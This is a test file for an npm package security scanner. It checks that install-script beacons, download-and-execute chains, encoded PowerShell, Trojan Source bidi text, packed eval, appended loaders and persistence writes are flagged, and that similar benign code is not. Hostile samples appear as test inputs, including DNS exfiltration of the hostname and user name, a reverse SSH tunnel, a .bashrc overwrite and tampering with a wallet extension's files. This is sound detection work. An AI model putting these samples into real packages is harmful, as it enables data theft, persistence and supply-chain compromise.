/** The near misses of the newer recall rules: ordinary code with the same words stays quiet. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeContent } from '../../src/analyzers/content/index.js';
import { scanShell } from '../../src/analyzers/content/shell-scan.js';
import { filesOf } from './helpers.js';

const manifest = (scripts?: Record<string, string>, extra: Record<string, unknown> = {}): string =>
  JSON.stringify({ name: 'p', version: '1.0.0', ...(scripts ? { scripts } : {}), ...extra });
const rules = async (entries: Record<string, string>): Promise<string[]> =>
  (await analyzeContent(filesOf(entries), 'p')).findings.map((f) => `${f.rule}:${f.severity}`);

test('shell: bare OAST / tunnel host names are endpoints, ordinary dotted words are not', () => {
  const eps = (s: string) => scanShell(s, 'x.sh').endpoints.map((e) => `${e.category}:${e.host}`);
  assert.deepEqual(eps('nslookup $(whoami).$(hostname).abc.oast.fun'), ['oast:abc.oast.fun']);
  assert.deepEqual(eps('ssh -R 80:localhost:3000 serveo.net'), ['tunnel:serveo.net']);
  assert.deepEqual(eps('node scripts/build.js && cp lib/index.d.ts dist/'), []);
});

test('shell: PowerShell -EncodedCommand is decode-to-shell; a short -e flag value is not', () => {
  const idioms = (s: string) => scanShell(s, 'x.cmd').hits.map((h) => h.idiom);
  assert.deepEqual(idioms('powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGQAZQBmAGEAbgBnAGUAZAAnAA=='), [
    'decode-to-shell',
  ]);
  assert.deepEqual(idioms('powershell -ExecutionPolicy Bypass -File build.ps1 -e Release'), []);
});

test('shell: a downloaded archive that is unpacked, then a different file made executable, is not download-exec', () => {
  const idioms = (s: string) => scanShell(s, 'x.sh').hits.map((h) => h.idiom);
  assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool.tar.gz -o tool.tar.gz\ntar -xzf tool.tar.gz\nchmod +x bin/tool'), []);
  assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o tool\necho done\nchmod 755 tool'), ['download-exec']);
  assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o /tmp/tool\nif true; then /tmp/tool --x; fi'), ['download-exec']);
  assert.deepEqual(
    idioms('curl -o ./b.dmg https://dl.example.invalid/b.dmg\nhdiutil attach -nobrowse ./b.dmg\nsudo installer -pkg /tmp/b.dmg -target /'),
    [],
    'the download as an argument of another command is data',
  );
});

test('install: machine identity printed locally is no finding; sent in DNS labels it is a beacon', async () => {
  assert.deepEqual(await rules({ 'package.json': manifest({ postinstall: 'echo "built on $(hostname) by $(whoami)"' }) }), []);
  // Whatever the domain, the host name travels to the domain's name server: the dependency-confusion beacon shape.
  assert.deepEqual(await rules({ 'package.json': manifest({ preinstall: 'nslookup $(hostname).corp.example.com || true' }) }), [
    'content/identity-beacon:high',
  ]);
});

test('binding.gyp with ordinary command expansions: implicit install script, no finding', async () => {
  const gyp =
    '{ "targets": [ { "target_name": "a", "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"], "libraries": ["<!@(pkg-config --libs glib-2.0)"] } ] }\n';
  const { findings, facts } = await analyzeContent(filesOf({ 'package.json': manifest(), 'binding.gyp': gyp }), 'p');
  assert.deepEqual(
    findings.map((f) => f.rule),
    [],
  );
  assert.equal(facts.installScripts[0]?.implicit, 'binding.gyp');
  const withScript = await analyzeContent(
    filesOf({ 'package.json': manifest({ install: 'prebuild-install || node-gyp rebuild' }), 'binding.gyp': gyp }),
    'p',
  );
  assert.deepEqual(
    withScript.facts.installScripts.map((s) => s.implicit),
    [undefined],
    'an explicit install script replaces the implicit one',
  );
  const optedOut = await analyzeContent(filesOf({ 'package.json': manifest(undefined, { gypfile: false }), 'binding.gyp': gyp }), 'p');
  assert.deepEqual(optedOut.facts.installScripts, []);
});

test('fromCharCode in a UTF-8 decoder and short code lists next to eval: no encoded-exec', async () => {
  const js = [
    'function utf8(bytes) { return String.fromCharCode.apply(null, bytes); }',
    'const sep = String.fromCharCode(44, 59);',
    'const g = new Function("return this")();',
    'module.exports = { utf8, sep, run: (src) => eval(src) };',
  ].join('\n');
  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': js }), []);
  const codes = [...'console.log(1)'].map((c) => c.charCodeAt(0)).join(',');
  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': `eval(String.fromCharCode(${codes}));\n` }), [
    'content/decoded-exec:high',
  ]);
});

test('bidi controls with nothing visible after them on their line reorder nothing (a font table naming U+202A)', async () => {
  const font = 'module.exports = `flf2a$ 8 6\n0x202A \u202a\n  @@\n0x2067 \u2067\n  @@\n`;\n';
  assert.deepEqual(await rules({ 'package.json': manifest(), 'fonts/a.js': font }), []);
  const trojan = 'const access = "user\u202e \u2066// admin\u2069 \u2066";\nif (access !== "user") grant();\n';
  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': trojan }), ['content/trojan-source:high']);
});

test('a packer sample held in a string (an unpacker and its test data) is data; packed code itself is flagged', async () => {
  const packed = "eval(function(p,a,c,k,e,r){e=String;return p}('0 1',2,2,'a|b'.split('|'),0,{}))";
  const unpacker = `var sample = ${JSON.stringify(packed)};\nfunction detect(s) { return /^eval\\(function\\(p,a,c,k,e,/.test(s); }\nmodule.exports = { detect, sample };\n`;
  assert.deepEqual(await rules({ 'package.json': manifest(), 'unpacker.js': unpacker }), []);
  assert.deepEqual(await rules({ 'package.json': manifest(), 'packed.js': packed + ';\n' }), ['content/obfuscated-code:high']);
});

test('an appended loader needs a minified bundle: one long table line in a pretty-printed file is not one', async () => {
  const table = `var table = [${Array.from({ length: 400 }, (_, i) => i).join(',')}];\n`;
  const body = Array.from({ length: 400 }, (_, i) => `function f${i}(a) {\n  return a + ${i};\n}\n`).join('');
  const tail =
    "(function () {\n  var cp = require('child_process');\n  require('https').get('https://x.invalid/', function () {});\n  cp.exec('ls');\n})();\n";
  assert.deepEqual(
    (await rules({ 'package.json': manifest(), 'lib/server.js': table + body + tail })).filter((r) =>
      r.startsWith('content/appended-loader'),
    ),
    [],
  );
  const minified = Array.from({ length: 8 }, (_, i) => `var m${i}=function(a){return a*${i}};`.repeat(40)).join('\n') + '\n';
  assert.deepEqual(
    (await rules({ 'package.json': manifest(), 'dist/x.min.js': minified + tail })).filter((r) => r.startsWith('content/appended-loader')),
    ['content/appended-loader:high'],
  );
});

test('a write to a persistence-like path inside the package itself (from __dirname) is no persistence; one that climbs out is', async () => {
  const tasks = (target: string) => ({
    'package.json': manifest(undefined, { main: 'index.js' }),
    'index.js': 'module.exports = 1;\n',
    // A build script published by mistake (as blake3-wasm's dist/build/generate-tasks.js): it writes the
    // package's own CI workflow, which in an installed copy sits inert under node_modules/<name>/.
    'dist/build/generate-tasks.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfs.writeFileSync(${target}, 'on: push\\n');\n`,
  });
  const persistence = async (target: string) => (await rules(tasks(target))).filter((r) => r.startsWith('content/persistence'));
  assert.deepEqual(await persistence(`path.join(__dirname, '..', '..', '.github', 'workflows', 'build.yml')`), []);
  assert.deepEqual(await persistence(`path.resolve(__dirname, '../../.github/workflows/build.yml')`), []);
  // Out of the package (three levels up from dist/build/), from the home folder, or an absolute path: as before.
  assert.deepEqual(await persistence(`path.join(__dirname, '..', '..', '..', '.github', 'workflows', 'build.yml')`), [
    'content/persistence:high',
  ]);
  assert.deepEqual(await persistence(`path.join(os.homedir(), '.github', 'workflows', 'build.yml')`), ['content/persistence:high']);
  assert.deepEqual(await persistence(`path.resolve(__dirname, '/srv/app/.github/workflows/build.yml')`), ['content/persistence:high']);
  assert.deepEqual(await persistence(`path.join(__dirname, process.env.OUT, '.github/workflows/build.yml')`), ['content/persistence:high']);
});

test('a path from __dirname kept in a variable first: inside the package no persistence, climbing out persistence', async () => {
  const files = (up: string) => ({
    'package.json': manifest({ postinstall: 'node scripts/setup.js' }),
    'scripts/setup.js': `const fs = require('fs');\nconst path = require('path');\nconst out = path.join(__dirname, '${up}.github/workflows/ci.yml');\nfs.writeFileSync(out, 'on: push\\n');\n`,
  });
  const persistence = async (up: string) => (await rules(files(up))).filter((r) => r.startsWith('content/persistence'));
  assert.deepEqual(await persistence('../'), []);
  // From node_modules/<name>/scripts/, three levels up is the project that installed it.
  assert.deepEqual(await persistence('../../../'), ['content/persistence:high']);
});

test('copyFile writes its second argument: a copy into a persistence location is persistence, a copy out of one is not', async () => {
  const setup = (call: string) => ({
    'package.json': manifest({ postinstall: 'node setup.js' }),
    'setup.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n${call};\n`,
    'profile.txt': 'export PATH=$PATH:/opt/x\n',
  });
  const persistence = async (call: string) => (await rules(setup(call))).filter((r) => r.startsWith('content/persistence'));
  assert.deepEqual(await persistence(`fs.copyFileSync(path.join(__dirname, 'profile.txt'), path.join(os.homedir(), '.bashrc'))`), [
    'content/persistence:high',
  ]);
  assert.deepEqual(await persistence(`fs.copyFileSync(path.join(os.homedir(), '.bashrc'), path.join(os.tmpdir(), 'bashrc.bak'))`), []);
});

test("an application's code outside the project is tampering; a build's own output with the same names is not", async () => {
  const write = async (target: string) =>
    (
      await rules({
        'package.json': manifest({ postinstall: 'node i.js' }),
        'i.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nfs.writeFileSync(${target}, 'x');\n`,
      })
    ).filter((r) => r.startsWith('content/persistence'));
  // Relative to where the build runs: its own output.
  assert.deepEqual(await write(`path.join('dist', 'win-unpacked', 'resources', 'app.asar')`), []);
  assert.deepEqual(await write(`path.join('release', 'linux-unpacked', 'resources', 'app', 'main.js')`), []);
  assert.deepEqual(await write(`path.join('out', 'squirrel', 'app-1.4.2', 'Update.exe')`), []);
  // From the home folder, an environment variable or an absolute root: an installed application.
  assert.deepEqual(await write(`path.join(os.homedir(), '.config', 'Slack', 'resources', 'app.asar')`), ['content/persistence:high']);
  assert.deepEqual(await write(`path.join(process.env.LOCALAPPDATA, 'Wallet', 'app-2.1.0', 'resources', 'app', 'index.js')`), [
    'content/persistence:high',
  ]);
  assert.deepEqual(await write(`'/opt/Signal/resources/app.asar'`), ['content/persistence:high']);
  assert.deepEqual(
    await write(
      `path.join(os.homedir(), 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Extensions', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '11.0', 'background.js')`,
    ),
    ['content/persistence:high'],
  );
});
